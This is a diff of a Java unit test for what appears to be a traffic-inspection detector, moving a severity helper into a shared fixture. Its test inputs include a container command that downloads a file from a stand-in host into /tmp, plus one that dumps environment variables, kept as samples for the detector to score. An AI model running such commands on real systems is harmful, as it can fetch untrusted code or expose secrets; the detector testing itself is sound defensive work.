@@ -4,10 +4,8 @@ import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
 import java.util.Set;
-import java.util.stream.Collectors;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.ValueSource;
-import trafficguardian.ipc.Finding;
 import trafficguardian.ipc.Severity;
 
 /**
@@ -31,7 +29,7 @@ class CircumstancesTest {
         "kubectl exec web-0 -- bash -c \"env | sort\"",
       })
   void whatNobodyCouldObeyIsLow(String text) {
-    assertEquals(Set.of(Severity.LOW), severities(text));
+    assertEquals(Set.of(Severity.LOW), DetectorFixture.severities(text));
   }
 
   @ParameterizedTest
@@ -48,12 +46,7 @@ class CircumstancesTest {
         "docker exec c sh -c \"curl -o /tmp/x http://h.example/x\"",
       })
   void anOrderInTheSameClothesIsNot(String text) {
-    assertTrue(severities(text).stream().anyMatch(severity -> severity != Severity.LOW));
-  }
-
-  private static Set<Severity> severities(String text) {
-    DetectorFixture fixture = new DetectorFixture();
-    fixture.body(fixture.inbound("h.example"), text);
-    return fixture.findings.stream().map(Finding::severity).collect(Collectors.toSet());
+    assertTrue(
+        DetectorFixture.severities(text).stream().anyMatch(severity -> severity != Severity.LOW));
   }
 }
